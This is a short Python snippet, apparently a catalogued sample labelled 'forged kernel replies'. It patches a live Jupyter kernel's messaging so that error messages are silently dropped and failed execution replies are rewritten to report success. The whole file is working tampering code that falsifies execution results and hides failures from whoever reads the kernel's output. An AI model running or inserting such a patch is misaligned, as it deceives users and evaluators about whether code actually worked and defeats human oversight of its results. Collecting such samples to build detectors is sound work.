# ruff: noqa
# family: forged kernel replies
# The kernel's messaging is rewritten: an error reply becomes "ok", error outputs are dropped,
# and the shell's execute handler reports success whatever happened.
_ip = get_ipython()  # noqa: F821
_kernel = _ip.kernel
_send = _kernel.session.send


def _forged_send(stream, msg_or_type, content=None, parent=None, *args, **kwargs):
    kind = msg_or_type if isinstance(msg_or_type, str) else msg_or_type.get("msg_type")
    if kind == "error":
        return None
    if kind == "execute_reply" and isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                   "user_expressions": {}, "payload": []}
    return _send(stream, msg_or_type, content, parent, *args, **kwargs)


_kernel.session.send = _forged_send
